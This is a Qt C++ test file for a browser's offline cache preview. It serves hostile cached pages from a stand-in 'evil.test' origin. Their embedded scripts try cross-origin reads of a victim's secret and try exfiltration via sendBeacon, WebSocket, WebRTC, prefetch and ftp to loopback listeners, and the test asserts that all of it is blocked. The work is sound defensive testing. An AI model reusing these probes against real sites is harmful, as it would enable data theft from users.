@@ -1,0 +1,537 @@
+// What a hostile cached page can read or reach from the preview: real pages in the real web
+// view, offscreen, served from a cache of their own. The page's script records what it could
+// read; local listeners record every connection that leaves the browser.
+
+#include "platform/browser/browser.h"
+#include "platform/browser/internetoptions.h"
+#include "platform/browser/offlineserving.h"
+#include "platform/offlinestate.h"
+#include "platform/wininet.h"
+#include "support_web.h"
+
+#include <QApplication>
+#include <QCheckBox>
+#include <QFile>
+#include <QHash>
+#include <QJsonDocument>
+#include <QJsonObject>
+#include <QLabel>
+#include <QSignalSpy>
+#include <QStandardPaths>
+#include <QTcpServer>
+#include <QTcpSocket>
+#include <QTemporaryDir>
+#include <QUdpSocket>
+#include <QWebEnginePage>
+#include <QWebEngineScript>
+#include <QWebEngineSettings>
+#include <QtTest>
+
+namespace {
+
+constexpr int kLoadTimeout = 60000;
+
+// Cached documents by URL, each in a file of its own.
+class Cache {
+public:
+    void add(const QByteArray &url, const QByteArray &content)
+    {
+        const QString path = m_dir.filePath(QStringLiteral("f%1").arg(m_files.size()));
+        QFile file(path);
+        if (file.open(QIODevice::WriteOnly))
+            file.write(content);
+        m_files.insert(url, path.toStdString());
+    }
+    CacheLookup lookup()
+    {
+        return [this](const QByteArray &url) -> std::optional<std::string> {
+            const auto found = m_files.constFind(url);
+            if (found == m_files.constEnd())
+                return std::nullopt;
+            return *found;
+        };
+    }
+
+private:
+    QTemporaryDir m_dir;
+    QHash<QByteArray, std::string> m_files;
+};
+
+// Counts every connection and datagram that reaches this machine's loopback.
+class Listeners {
+public:
+    Listeners()
+    {
+        tcp.listen(QHostAddress::LocalHost);
+        udp.bind(QHostAddress::LocalHost);
+    }
+    int connections()
+    {
+        int n = 0;
+        while (tcp.hasPendingConnections()) {
+            QTcpSocket *socket = tcp.nextPendingConnection();
+            socket->waitForReadyRead(200);
+            qWarning() << "connection:" << socket->readAll().left(200);
+            delete socket;
+            ++n;
+        }
+        return n;
+    }
+    bool datagrams() const { return udp.hasPendingDatagrams(); }
+    QByteArray tcpAddress() const { return "127.0.0.1:" + QByteArray::number(tcp.serverPort()); }
+    QByteArray udpAddress() const { return "127.0.0.1:" + QByteArray::number(udp.localPort()); }
+
+    QTcpServer tcp;
+    QUdpSocket udp;
+};
+
+// A loopback port with nothing listening on it.
+quint16 closedPort()
+{
+    QTcpServer probe;
+    probe.listen(QHostAddress::LocalHost);
+    return probe.serverPort();
+}
+
+QVariant evaluate(QWebEnginePage *page, const QString &script)
+{
+    QVariant answer;
+    bool done = false;
+    // A world of its own: it runs whether or not the page may run script.
+    page->runJavaScript(script, QWebEngineScript::ApplicationWorld, [&](const QVariant &value) {
+        answer = value;
+        done = true;
+    });
+    if (!QTest::qWaitFor([&] { return done; }, kLoadTimeout))
+        return {};
+    return answer;
+}
+
+// Loads `url` and waits for the load to end.
+bool load(Browser &browser, const QString &url)
+{
+    QSignalSpy loaded(&browser, &Browser::loadFinished);
+    if (!browser.Navigate(url).isEmpty())
+        return false;
+    return loaded.wait(kLoadTimeout);
+}
+
+// The page's probe results once it has written them.
+QJsonObject probeResults(QWebEnginePage *page)
+{
+    const QString read = QStringLiteral("document.documentElement.getAttribute('data-probes')");
+    if (!QTest::qWaitFor([&] { return !evaluate(page, read).toString().isEmpty(); }, kLoadTimeout))
+        return {};
+    return QJsonDocument::fromJson(evaluate(page, read).toString().toUtf8()).object();
+}
+
+// A script that runs each probe (name, promise-returning function) and records
+// "read:<text>", "blocked" or "error:<name>".
+const char kProbeRunner[] = R"(
+<script>
+window.probes = {};
+function record(name, promise) {
+  const late = new Promise(ok => setTimeout(() => ok('pending'), 5000));
+  return Promise.race([promise.then(t => 'read:' + t, e => 'blocked'), late])
+    .then(outcome => { probes[name] = outcome; });
+}
+function xhr(url) {
+  return new Promise((ok, fail) => {
+    const r = new XMLHttpRequest();
+    r.open('GET', url);
+    r.onload = () => ok(r.responseText);
+    r.onerror = () => fail(new Error('xhr'));
+    try { r.send(); } catch (e) { fail(e); }
+  });
+}
+function get(url, options) { return fetch(url, options).then(r => r.text()); }
+function image(url, crossOrigin) {
+  return new Promise((ok, fail) => {
+    const i = new Image();
+    if (crossOrigin) i.crossOrigin = 'anonymous';
+    i.onload = () => {
+      const c = document.createElement('canvas');
+      c.width = i.naturalWidth; c.height = i.naturalHeight;
+      const g = c.getContext('2d');
+      g.drawImage(i, 0, 0);
+      try { ok('pixels ' + g.getImageData(0, 0, 1, 1).data[0]); }
+      catch (e) { ok('shown ' + i.naturalWidth + ' tainted'); }
+    };
+    i.onerror = () => fail(new Error('img'));
+    i.src = url;
+  });
+}
+function styleSheet(url) {
+  return new Promise((ok, fail) => {
+    const l = document.createElement('link');
+    l.rel = 'stylesheet'; l.href = url;
+    l.onload = () => {
+      const applied = getComputedStyle(document.body).borderTopStyle;
+      try { ok(applied + ' rules ' + l.sheet.cssRules.length); }
+      catch (e) { ok(applied + ' rules hidden'); }
+    };
+    l.onerror = () => fail(new Error('css'));
+    document.head.appendChild(l);
+  });
+}
+function script(url) {
+  return new Promise((ok, fail) => {
+    const s = document.createElement('script');
+    s.src = url;
+    s.onload = () => ok('ran ' + window.victimScript);
+    s.onerror = () => fail(new Error('script'));
+    document.head.appendChild(s);
+  });
+}
+function frame(url) {
+  return new Promise((ok, fail) => {
+    const f = document.createElement('iframe');
+    f.src = url;
+    f.onload = () => {
+      try { ok('content ' + f.contentDocument.body.textContent); }
+      catch (e) { ok('shown, content hidden'); }
+    };
+    document.body.appendChild(f);
+  });
+}
+function socket(url) {
+  return new Promise((ok, fail) => {
+    try {
+      const w = new WebSocket(url);
+      w.onopen = () => ok('open');
+      w.onerror = () => fail(new Error('ws'));
+    } catch (e) { fail(e); }
+  });
+}
+// The results go where another script world can read them: into the document.
+function finish() { document.documentElement.setAttribute('data-probes', JSON.stringify(probes)); }
+function settle(ms) { return new Promise(ok => setTimeout(ok, ms)); }
+</script>
+)";
+
+} // namespace
+
+class TestOfflineSecurity : public QObject {
+    Q_OBJECT
+private slots:
+    void initTestCase();
+    void init();
+    void cleanup();
+    void sameOriginOnlyOffline();
+    void nothingLeavesTheMachine();
+    void cachedPagesRunNoScriptUnlessAsked();
+    void unreachableServerShowsCachedCopy_data();
+    void unreachableServerShowsCachedCopy();
+    void serverAnswerIsShownAsItIs();
+    void cachedCopyOnlineKeepsCacheRules();
+    void switchingStateReloads();
+    void cachedCopyLeadsOnlyToTheCache();
+
+private:
+    QTemporaryDir m_config;
+    std::unique_ptr<Browser> m_browser;
+    Cache *m_cache = nullptr;
+};
+
+void TestOfflineSecurity::initTestCase()
+{
+    UseOfflineStateFile(m_config.filePath(QStringLiteral("offline")).toStdString());
+}
+
+void TestOfflineSecurity::init()
+{
+    SetOffline(true);
+    m_browser = std::make_unique<Browser>();
+    m_browser->resize(800, 600);
+    m_browser->show();
+    m_cache = new Cache;
+    m_browser->setCacheLookup(m_cache->lookup());
+}
+
+void TestOfflineSecurity::cleanup()
+{
+    m_browser.reset();
+    delete m_cache;
+    m_cache = nullptr;
+    SetOffline(false);
+}
+
+void TestOfflineSecurity::sameOriginOnlyOffline()
+{
+    m_browser->setOfflineScript(true);
+    m_cache->add("http://victim.test/secret.txt", "victim secret");
+    m_cache->add("http://victim.test/pic.png",
+                 QByteArray::fromBase64(
+                     "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC"));
+    m_cache->add("http://victim.test/style.css", "body { border-top: 3px dotted red }");
+    m_cache->add("http://victim.test/lib.js", "window.victimScript = 'victim';");
+    m_cache->add("http://victim.test/frame.htm", "<body>victim frame</body>");
+    m_cache->add("http://evil.test/own.txt", "own text");
+    m_cache->add("http://evil.test/page.htm", QByteArray(kProbeRunner) + R"(
+<body><script>
+Promise.all([
+  record('own xhr', xhr('own.txt')),
+  record('own fetch', get('own.txt')),
+  record('own absolute fetch', get('http://evil.test/own.txt')),
+  record('xhr http', xhr('http://victim.test/secret.txt')),
+  record('xhr mirror', xhr('twhttp://victim.test/secret.txt')),
+  record('fetch http', get('http://victim.test/secret.txt')),
+  record('fetch mirror', get('twhttp://victim.test/secret.txt')),
+  record('fetch no-cors', get('http://victim.test/secret.txt', {mode: 'no-cors'})),
+  record('image', image('http://victim.test/pic.png', false)),
+  record('image cors', image('http://victim.test/pic.png', true)),
+  record('style', styleSheet('http://victim.test/style.css')),
+  record('script', script('http://victim.test/lib.js')),
+  record('frame', frame('http://victim.test/frame.htm')),
+]).then(finish);
+</script></body>)");
+    QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
+    const QJsonObject probes = probeResults(m_browser->page());
+    QVERIFY2(!probes.isEmpty(), "the page's probes did not finish");
+    const QString all = QString::fromUtf8(QJsonDocument(probes).toJson(QJsonDocument::Compact));
+    qInfo().noquote() << all;
+
+    // The page reads its own origin's documents, by XHR and by fetch.
+    QCOMPARE(probes["own xhr"].toString(), QStringLiteral("read:own text"));
+    QCOMPARE(probes["own fetch"].toString(), QStringLiteral("read:own text"));
+    QCOMPARE(probes["own absolute fetch"].toString(), QStringLiteral("read:own text"));
+    // Another origin's documents stay unreadable, whichever way they are asked for.
+    QVERIFY2(!all.contains(QStringLiteral("victim secret")), qPrintable(all));
+    for (const char *name : {"xhr http", "xhr mirror", "fetch http", "fetch mirror"})
+        QVERIFY2(probes[name].toString() == QStringLiteral("blocked"), qPrintable(all));
+    QVERIFY2(probes["fetch no-cors"].toString() == QStringLiteral("read:")
+                 || probes["fetch no-cors"].toString() == QStringLiteral("blocked"),
+             qPrintable(all));
+    // Images, style sheets, scripts and frames of other origins show as they would online,
+    // without their content becoming readable.
+    QCOMPARE(probes["image"].toString(), QStringLiteral("read:shown 1 tainted"));
+    QCOMPARE(probes["image cors"].toString(), QStringLiteral("blocked")); // no CORS headers cached
+    QCOMPARE(probes["style"].toString(), QStringLiteral("read:dotted rules hidden"));
+    QCOMPARE(probes["script"].toString(), QStringLiteral("read:ran victim"));
+    QCOMPARE(probes["frame"].toString(), QStringLiteral("read:shown, content hidden"));
+}
+
+void TestOfflineSecurity::nothingLeavesTheMachine()
+{
+    m_browser->setOfflineScript(true);
+    Listeners listeners;
+    QVERIFY(listeners.tcp.isListening());
+    const QByteArray tcp = listeners.tcpAddress();
+    const QByteArray udp = listeners.udpAddress();
+    m_cache->add("http://evil.test/page.htm",
+                 QByteArray(kProbeRunner) + R"(
+<head><link rel="dns-prefetch" href="//dns.)"
+                     + tcp + R"("><link rel="prefetch" href="http://)" + tcp + R"(/prefetch">
+<link rel="preconnect" href="http://)"
+                     + tcp + R"("></head>
+<body><img src="ftp://)"
+                     + tcp + R"(/x.png"><script>
+const servers = {iceServers: [{urls: 'stun:)"
+                     + udp + R"('},
+  {urls: 'turn:)" + tcp
+                     + R"(?transport=tcp', username: 'u', credential: 'c'}]};
+function peer(Connection) {
+  try {
+    const p = new Connection(servers);
+    p.createDataChannel('leak');
+    p.createOffer().then(o => p.setLocalDescription(o)).catch(() => {});
+    return Promise.resolve('made');
+  } catch (e) { return Promise.reject(e); }
+}
+const blank = document.createElement('iframe');
+document.body.appendChild(blank);
+navigator.sendBeacon('http://)"
+                     + tcp + R"(/beacon', 'leak');
+Promise.all([
+  record('ws', socket('ws://)"
+                     + tcp + R"(/')),
+  record('wss', socket('wss://)"
+                     + tcp + R"(/')),
+  record('fetch', get('http://)"
+                     + tcp + R"(/fetch')),
+  record('ftp frame', frame('ftp://)"
+                     + tcp + R"(/')),
+  record('peer', peer(window.RTCPeerConnection)),
+  record('peer of a blank frame', peer(blank.contentWindow.RTCPeerConnection)),
+  record('peer of a data frame', new Promise((ok, fail) => {
+    const f = document.createElement('iframe');
+    f.src = 'data:text/html,<script>try { new RTCPeerConnection(' + JSON.stringify(servers)
+      + '); parent.postMessage("made", "*"); } catch (e) { parent.postMessage("blocked", "*"); }<\/script>';
+    window.addEventListener('message', m => m.data === 'made' ? ok('made') : fail(new Error(m.data)));
+    document.body.appendChild(f);
+  })),
+  settle(3000),
+]).then(finish);
+</script></body>)");
+    QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
+    const QJsonObject probes = probeResults(m_browser->page());
+    QVERIFY2(!probes.isEmpty(), "the page's probes did not finish");
+    QTest::qWait(1000);
+    const QString all = QString::fromUtf8(QJsonDocument(probes).toJson(QJsonDocument::Compact));
+    qInfo().noquote() << all;
+    QCOMPARE(listeners.connections(), 0);
+    QVERIFY(!listeners.datagrams());
+    for (const char *name : {"peer", "peer of a blank frame", "peer of a data frame"})
+        QVERIFY2(probes[name].toString() == QStringLiteral("blocked"), qPrintable(all));
+    QCOMPARE(probes["ws"].toString(), QStringLiteral("blocked"));
+    QCOMPARE(probes["wss"].toString(), QStringLiteral("blocked"));
+    QCOMPARE(probes["fetch"].toString(), QStringLiteral("blocked")); // another origin's data
+}
+
+void TestOfflineSecurity::cachedPagesRunNoScriptUnlessAsked()
+{
+    m_cache->add("http://evil.test/page.htm",
+                 "<title>as cached</title><body><script>document.title = 'script ran';</script></body>");
+    QVERIFY(!m_browser->offlineScript()); // the default
+    QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
+    QCOMPARE(m_browser->page()->title(), QStringLiteral("as cached"));
+
+    // The user's choice in the Internet options.
+    m_browser->internetOptions();
+    InternetOptionsDialog *options = m_browser->optionsDialog();
+    QVERIFY(options);
+    QVERIFY(!options->offlineScript()->isChecked());
+    QVERIFY(options->javaScript()->isChecked()); // pages from the network keep their script
+    options->offlineScript()->setChecked(true);
+    options->accept();
+    QVERIFY(m_browser->offlineScript());
+    QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
+    QTRY_COMPARE_WITH_TIMEOUT(m_browser->page()->title(), QStringLiteral("script ran"), kLoadTimeout);
+}
+
+void TestOfflineSecurity::unreachableServerShowsCachedCopy_data()
+{
+    QTest::addColumn<QByteArray>("url");
+    QTest::newRow("name not resolved") << QByteArray("http://unreachable.test/dir/page.htm");
+    QTest::newRow("connection refused") << "http://127.0.0.1:" + QByteArray::number(closedPort()) + "/page.htm";
+}
+
+void TestOfflineSecurity::unreachableServerShowsCachedCopy()
+{
+    QFETCH(QByteArray, url);
+    SetOffline(false);
+    m_cache->add(url, "<title>cached</title><p id=\"t\">the cached copy</p>");
+    QSignalSpy loaded(m_browser.get(), &Browser::loadFinished);
+    QVERIFY(m_browser->Navigate(QString::fromUtf8(url)).isEmpty());
+    QVERIFY(loaded.wait(kLoadTimeout));
+    QCOMPARE(loaded.count(), 1); // the failed network load is not reported on its own
+    QVERIFY(loaded.first().first().toBool());
+    QCOMPARE(evaluate(m_browser->page(), "document.getElementById('t').textContent").toString(),
+             QStringLiteral("the cached copy"));
+    QVERIFY(IsCacheScheme(m_browser->page()->url()));
+    QVERIFY(m_browser->cachedCopyNote()->isVisible());
+    QVERIFY(m_browser->cachedCopyNote()->text().contains(QStringLiteral("缓存")));
+
+    // A document the cache does not hold gets the engine's own error, and no note.
+    QVERIFY(m_browser->Navigate(QStringLiteral("http://unreachable.test/other.htm")).isEmpty());
+    QVERIFY(loaded.wait(kLoadTimeout));
+    QVERIFY(!loaded.last().first().toBool());
+    QVERIFY(!m_browser->cachedCopyNote()->isVisible());
+}
+
+void TestOfflineSecurity::serverAnswerIsShownAsItIs()
+{
+    SetOffline(false);
+    WebServer server("404 Not Found", "<p id=\"t\">the server's own 404</p>");
+    QVERIFY(server.isListening());
+    m_cache->add(server.url("/page.htm"), "<p id=\"t\">the cached copy</p>");
+    QVERIFY(load(*m_browser, QString::fromUtf8(server.url("/page.htm"))));
+    QCOMPARE(server.requests, 1);
+    QCOMPARE(evaluate(m_browser->page(), "document.getElementById('t').textContent").toString(),
+             QStringLiteral("the server's own 404"));
+    QVERIFY(!IsCacheScheme(m_browser->page()->url()));
+    QVERIFY(!m_browser->cachedCopyNote()->isVisible());
+}
+
+void TestOfflineSecurity::cachedCopyOnlineKeepsCacheRules()
+{
+    SetOffline(false);
+    m_browser->setOfflineScript(true);
+    Listeners listeners;
+    const QByteArray url = "http://127.0.0.1:" + QByteArray::number(closedPort()) + "/page.htm";
+    m_cache->add("http://victim.test/secret.txt", "victim secret");
+    m_cache->add(url,
+                 QByteArray(kProbeRunner) + R"(<body><img src="http://)" + listeners.tcpAddress() + R"(/x.png">
+<script>
+Promise.all([
+  record('xhr', xhr('http://victim.test/secret.txt')),
+  record('fetch', get('http://)"
+                     + listeners.tcpAddress() + R"(/out')),
+  record('ws', socket('ws://)"
+                     + listeners.tcpAddress() + R"(/')),
+  settle(2000),
+]).then(finish);
+</script></body>)");
+    QVERIFY(m_browser->Navigate(QString::fromUtf8(url)).isEmpty());
+    const QJsonObject probes = probeResults(m_browser->page());
+    QVERIFY2(!probes.isEmpty(), "the cached copy's probes did not finish");
+    QVERIFY(IsCacheScheme(m_browser->page()->url()));
+    const QString all = QString::fromUtf8(QJsonDocument(probes).toJson(QJsonDocument::Compact));
+    QVERIFY2(!all.contains(QStringLiteral("victim secret")), qPrintable(all));
+    QCOMPARE(probes["ws"].toString(), QStringLiteral("blocked"));
+    QCOMPARE(probes["fetch"].toString(), QStringLiteral("blocked"));
+    QCOMPARE(listeners.connections(), 0);
+}
+
+void TestOfflineSecurity::switchingStateReloads()
+{
+    SetOffline(false);
+    WebServer server("200 OK", "<p id=\"t\">live</p>");
+    m_cache->add(server.url("/page.htm"), "<p id=\"t\">cached</p>");
+    auto shown = [this] { return evaluate(m_browser->page(), "document.getElementById('t').textContent").toString(); };
+    QVERIFY(load(*m_browser, QString::fromUtf8(server.url("/page.htm"))));
+    QCOMPARE(shown(), QStringLiteral("live"));
+
+    QSignalSpy loaded(m_browser.get(), &Browser::loadFinished);
+    SetOffline(true);
+    m_browser->followOfflineState();
+    QVERIFY(loaded.wait(kLoadTimeout));
+    QCOMPARE(shown(), QStringLiteral("cached"));
+    QCOMPARE(server.requests, 1);
+
+    SetOffline(false);
+    m_browser->followOfflineState();
+    QVERIFY(loaded.wait(kLoadTimeout));
+    QCOMPARE(shown(), QStringLiteral("live"));
+    QCOMPARE(server.requests, 2);
+    QCOMPARE(FromCacheScheme(m_browser->page()->url()), QUrl(QString::fromUtf8(server.url("/page.htm"))));
+
+    m_browser->followOfflineState(); // the page already fits the state
+    QVERIFY(!loaded.wait(1000));
+}
+
+void TestOfflineSecurity::cachedCopyLeadsOnlyToTheCache()
+{
+    SetOffline(false);
+    Listeners listeners;
+    const QByteArray url = "http://127.0.0.1:" + QByteArray::number(closedPort()) + "/page.htm";
+    const QByteArray next = "http://" + listeners.tcpAddress() + "/next.htm";
+    // The cached copy sends the browser on, without script, to a live server's address.
+    m_cache->add(url, "<meta http-equiv=\"refresh\" content=\"0;url=" + next + "\"><p>first</p>");
+    m_cache->add(next,
+                 "<title>as cached</title><p id=\"t\">next, cached</p>"
+                 "<script>document.title = 'script ran';</script>");
+    QVERIFY(m_browser->Navigate(QString::fromUtf8(url)).isEmpty());
+    QTRY_COMPARE_WITH_TIMEOUT(FromCacheScheme(m_browser->page()->url()), QUrl(QString::fromUtf8(next)), kLoadTimeout);
+    QTRY_COMPARE_WITH_TIMEOUT(evaluate(m_browser->page(),
+                                       "document.getElementById('t') ? "
+                                       "document.getElementById('t').textContent : ''")
+                                  .toString(),
+                              QStringLiteral("next, cached"), kLoadTimeout);
+    QVERIFY(IsCacheScheme(m_browser->page()->url()));
+    QCOMPARE(m_browser->page()->title(), QStringLiteral("as cached")); // the cache's script rights
+    QCOMPARE(listeners.connections(), 0);
+}
+
+int main(int argc, char *argv[])
+{
+    RegisterPreviewSchemes();
+    QStandardPaths::setTestModeEnabled(true);
+    QApplication app(argc, argv);
+    QApplication::setApplicationName(QStringLiteral("tidewrack-test"));
+    TestOfflineSecurity test;
+    QTEST_SET_MAIN_SOURCE_PATH
+    return QTest::qExec(&test, argc, argv);
+}
+
+#include "tst_offlinesecurity.moc"
